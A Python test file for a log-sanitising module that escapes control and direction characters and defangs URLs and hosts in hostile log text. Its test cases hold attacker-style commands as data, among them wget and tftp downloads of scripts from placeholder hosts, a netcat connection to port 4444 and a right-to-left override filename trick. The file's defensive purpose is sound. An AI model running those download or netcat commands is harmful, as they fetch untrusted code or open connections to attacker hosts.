"""Text of a hostile log, made harmless for a reader's screen, hands and pointer."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evidentia.report.visible import cut, defanged, visible


@given(text=st.text())
def test_nothing_that_steers_a_screen_is_left(text: str) -> None:
    """Whatever is in a text, what comes out is printable and has no direction of its own."""
    shown = visible(text)

    assert not {unicodedata.category(each) for each in shown} & {"Cc", "Cf", "Cs", "Co", "Cn"}
    assert not set(shown) & set("\u2028\u2029\n\r\x00")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("ls -l", "ls -l"),
        ("jürgen", "jürgen"),
        ("a\x00b", "a\\x00b"),
        ("\x1b[31m", "\\x1b[31m"),
        ("\u202egnp.exe", "\\u202egnp.exe"),
        ("\U000e0041", "\\U000e0041"),
    ],
)
def test_what_is_hidden_is_written_out(text: str, shown: str) -> None:
    """Letters of any script stay; NUL, escapes and direction marks become visible."""
    assert visible(text) == shown


@pytest.mark.parametrize(
    ("text", "harmless"),
    [
        ("wget http://203.0.113.5/x.sh", "wget hxxp://203[.]0[.]113[.]5/x.sh"),
        ("curl HTTPS://user@a.example.com:80/p", "curl HxxPS://user@a[.]example[.]com:80/p"),
        ("ftp://a.b/c", "fxp://a[.]b/c"),
        ("tftp 192.0.2.1 -c get x.sh", "tftp 192[.]0[.]2[.]1 -c get x.sh"),
        ("wget evil.example.com/x.sh", "wget evil[.]example[.]com/x.sh"),
        ("nc a.example.org:4444", "nc a[.]example[.]org:4444"),
        ("cat /etc/init.d/rc; ./a.out; free -m", "cat /etc/init.d/rc; ./a.out; free -m"),
        ("version 1.2.3", "version 1.2.3"),
        ("", ""),
    ],
)
def test_addresses_are_defanged_and_paths_are_not(text: str, harmless: str) -> None:
    """No link and no host can be copied into a browser or shell; the rest is as it was typed."""
    assert defanged(text) == harmless


@given(text=st.text(alphabet="htpsf:/.ab19[] wx-@\n", max_size=40))
def test_defanging_twice_changes_nothing_more(text: str) -> None:
    """Text that was defanged by another program stays readable."""
    once = defanged(text)

    assert defanged(once) == once
    assert "http://" not in once
    assert "https://" not in once


def test_a_cut_text_says_so() -> None:
    """The mark is part of the width."""
    assert (cut("abcdef", 6), cut("abcdef", 5), cut("ab", 0)) == ("abcdef", "abcd…", "…")
